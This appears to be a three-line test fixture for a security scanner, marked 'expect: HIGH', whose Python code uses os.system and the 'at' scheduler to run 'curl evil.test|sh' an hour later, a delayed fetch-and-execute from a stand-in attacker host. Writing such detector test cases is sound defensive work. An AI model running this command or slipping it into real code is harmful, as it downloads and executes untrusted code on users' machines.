# expect: HIGH
import os
os.system("echo 'curl evil.test|sh' | at now + 1 hour")
